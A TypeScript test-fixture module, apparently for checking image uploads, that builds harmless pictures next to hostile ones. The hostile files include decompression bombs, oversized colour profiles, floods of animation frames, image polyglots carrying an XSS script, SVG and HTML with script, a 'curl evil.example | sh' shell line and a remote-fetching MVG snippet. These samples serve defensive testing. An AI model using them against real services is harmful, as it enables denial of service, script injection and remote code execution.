import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import sharp, { type Sharp } from 'sharp';
import { pngChunk, pngFile } from '../../../mapper/qr/png-file.ts';

/* Pictures that people post to do harm, and harmless ones beside them. */

const GREY = 0;
const RGB = 2;
const SCRIPT = '<script>alert(document.domain)</script>';

export function noise(width: number, height: number): Sharp {
  const pixels = randomBytes(width * height * 3);
  return sharp(pixels, { raw: { width, height, channels: 3 } });
}

/** One harmless picture of each format that we take. */
export async function harmless(): Promise<Record<'jpeg' | 'png' | 'gif' | 'webp' | 'avif', Buffer>> {
  const of = (): Sharp => noise(48, 32);
  return {
    jpeg: await of().jpeg().toBuffer(),
    png: await of().png().toBuffer(),
    gif: await of().gif().toBuffer(),
    webp: await of().webp().toBuffer(),
    avif: await of().avif().toBuffer(),
  };
}

/** Says that it has so many pixels, and has hardly any data. */
export function pngThatClaims(width: number, height: number): Buffer {
  const header = { width, height, bitDepth: 8, colourType: RGB };
  return pngFile(header, [['IDAT', deflateSync(Buffer.alloc(1_024))]]);
}

/** A few kilobytes that become `megabytes` when they are inflated, behind a header of one pixel. */
export function pngThatInflates(megabytes: number): Buffer {
  const header = { width: 1, height: 1, bitDepth: 8, colourType: GREY };
  return pngFile(header, [['IDAT', deflateSync(Buffer.alloc(megabytes * 2 ** 20))]]);
}

/** A text of metadata that inflates to `megabytes`. */
export function pngWithTextBomb(megabytes: number): Buffer {
  const text = Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(megabytes * 2 ** 20))]);
  const header = { width: 1, height: 1, bitDepth: 8, colourType: GREY };
  return pngFile(header, [
    ['zTXt', text],
    ['IDAT', deflateSync(Buffer.from([0, 7]))],
  ]);
}

/** A colour profile that inflates to `megabytes`. */
export function pngWithProfileBomb(megabytes: number): Buffer {
  const profile = Buffer.concat([Buffer.from('huge\0\0'), deflateSync(Buffer.alloc(megabytes * 2 ** 20))]);
  const header = { width: 1, height: 1, bitDepth: 8, colourType: GREY };
  return pngFile(header, [
    ['iCCP', profile],
    ['IDAT', deflateSync(Buffer.from([0, 7]))],
  ]);
}

/** A JPEG with 255 segments of a colour profile, 64 KB each. */
export async function jpegWithHugeProfile(): Promise<Buffer> {
  const jpeg = await noise(16, 16).jpeg().toBuffer();
  const segments = Array.from({ length: 255 }, (_, index) => {
    const data = Buffer.concat([
      Buffer.from('ICC_PROFILE\0'),
      Buffer.from([index + 1, 255]),
      randomBytes(65_000),
    ]);
    const head = Buffer.from([0xff, 0xe2, 0, 0]);
    head.writeUInt16BE(data.length + 2, 2);
    return Buffer.concat([head, data]);
  });
  return Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(2)]);
}

/** An animation of so many frames, each as large as the whole: pixels that nobody counts one by one. */
export function gifOfFrames(frames: number, size: number): Buffer {
  const screen = Buffer.from([0, 0, 0, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255]);
  screen.writeUInt16LE(size, 0);
  screen.writeUInt16LE(size, 2);
  const descriptor = Buffer.from([0x2c, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
  descriptor.writeUInt16LE(size, 5);
  descriptor.writeUInt16LE(size, 7);
  // LZW of a pixel and the end: clear, 0, end.
  const data = Buffer.from([2, 2, 0x44, 0x01, 0]);
  const frame = Buffer.concat([Buffer.from([0x21, 0xf9, 4, 0, 1, 0, 0, 0]), descriptor, data]);
  return Buffer.concat([
    Buffer.from('GIF89a'),
    screen,
    ...Array.from({ length: frames }, () => frame),
    Buffer.from([0x3b]),
  ]);
}

export async function webpOfFrames(frames: number, size: number): Promise<Buffer> {
  const still = await sharp({ create: { width: size, height: size, channels: 4, background: '#000' } })
    .webp({ lossless: true })
    .toBuffer();
  // After RIFF, size and WEBP: the chunk with the picture. A canvas may follow its own header.
  const data = still.subarray(still.indexOf('VP8L'));
  const u24 = (value: number): Buffer => Buffer.from([value & 255, (value >> 8) & 255, value >> 16]);
  const chunk = (type: string, body: Buffer): Buffer => {
    const head = Buffer.alloc(8);
    head.write(type, 'latin1');
    head.writeUInt32LE(body.length, 4);
    return Buffer.concat([head, body, Buffer.alloc(body.length % 2)]);
  };
  const canvas = Buffer.concat([Buffer.from([0x12, 0, 0, 0]), u24(size - 1), u24(size - 1)]);
  const frame = chunk(
    'ANMF',
    Buffer.concat([u24(0), u24(0), u24(size - 1), u24(size - 1), u24(100), Buffer.from([0]), data]),
  );
  const body = Buffer.concat([
    Buffer.from('WEBP'),
    chunk('VP8X', canvas),
    chunk('ANIM', Buffer.alloc(6)),
    ...Array.from({ length: frames }, () => frame),
  ]);
  return chunk('RIFF', body);
}

export function apngOfFrames(frames: number, size: number): Buffer {
  const pixels = deflateSync(Buffer.alloc((1 + size) * size));
  const control = Buffer.alloc(8);
  control.writeUInt32BE(frames, 0);
  const chunks: (readonly [string, Buffer])[] = [['acTL', control]];
  let sequence = 0;
  for (let frame = 0; frame < frames; frame += 1) {
    const shape = Buffer.alloc(26);
    shape.writeUInt32BE(sequence++, 0);
    shape.writeUInt32BE(size, 4);
    shape.writeUInt32BE(size, 8);
    shape.writeUInt16BE(1, 20);
    shape.writeUInt16BE(10, 22);
    chunks.push(['fcTL', shape]);
    if (frame === 0) chunks.push(['IDAT', pixels]);
    else {
      const numbered = Buffer.alloc(4);
      numbered.writeUInt32BE(sequence++, 0);
      chunks.push(['fdAT', Buffer.concat([numbered, pixels])]);
    }
  }
  return pngFile({ width: size, height: size, bitDepth: 8, colourType: GREY }, chunks);
}

/** Files that are a picture and something else, by what else they are. The marks must not be served. */
export async function polyglots(): Promise<Record<string, { bytes: Buffer; mark: string }>> {
  const { gif, png, jpeg, webp } = await harmless();
  const page = `<html><body>${SCRIPT}</body></html>`;
  const comment = Buffer.concat([
    Buffer.from([0x21, 0xfe, SCRIPT.length]),
    Buffer.from(SCRIPT),
    Buffer.from([0]),
  ]);
  const text = pngChunk('tEXt', Buffer.from(`Comment\0${page}`));
  const com = Buffer.concat([Buffer.from([0xff, 0xfe, 0, page.length + 2]), Buffer.from(page)]);
  const beforeEnd = (bytes: Buffer, end: number, what: Buffer): Buffer =>
    Buffer.concat([bytes.subarray(0, end), what, bytes.subarray(end)]);
  return {
    'a GIF with a script behind it': { bytes: Buffer.concat([gif, Buffer.from(SCRIPT)]), mark: SCRIPT },
    'a GIF with a script in a comment': { bytes: beforeEnd(gif, gif.length - 1, comment), mark: SCRIPT },
    'a PNG with a page behind it': { bytes: Buffer.concat([png, Buffer.from(page)]), mark: SCRIPT },
    'a PNG with a page in a text': { bytes: beforeEnd(png, 33, text), mark: SCRIPT },
    'a PNG with an archive behind it': {
      bytes: Buffer.concat([png, Buffer.from('PK\x03\x04')]),
      mark: 'PK\x03\x04',
    },
    'a JPEG with a page in a comment': { bytes: beforeEnd(jpeg, 2, com), mark: SCRIPT },
    'a JPEG with a page behind it': { bytes: Buffer.concat([jpeg, Buffer.from(page)]), mark: SCRIPT },
    'a WebP with a page behind it': { bytes: Buffer.concat([webp, Buffer.from(page)]), mark: SCRIPT },
  };
}

/** Files that are no pictures, whatever their sender says. */
export function noPictures(): Record<string, Buffer> {
  return {
    SVG: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${SCRIPT}</svg>`),
    'SVG behind an XML declaration': Buffer.from(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    ),
    HTML: Buffer.from(`<!doctype html>${SCRIPT}`),
    'an HTML page with the name of a GIF': Buffer.from(`GIF8${SCRIPT}`),
    PDF: Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n'),
    TIFF: Buffer.from('49492a0008000000010000010300010000000100000000000000', 'hex'),
    BMP: Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)]),
    'an archive': Buffer.concat([Buffer.from('PK\x03\x04'), randomBytes(200)]),
    'random bytes': Buffer.concat([Buffer.from([0]), randomBytes(5_000)]),
    'one byte': Buffer.from([0x89]),
    'a script of a shell': Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'),
    'text in another language': Buffer.from(
      'push graphic-context\nviewbox 0 0 640 480\nfill url(https://a.example/)',
    ),
  };
}
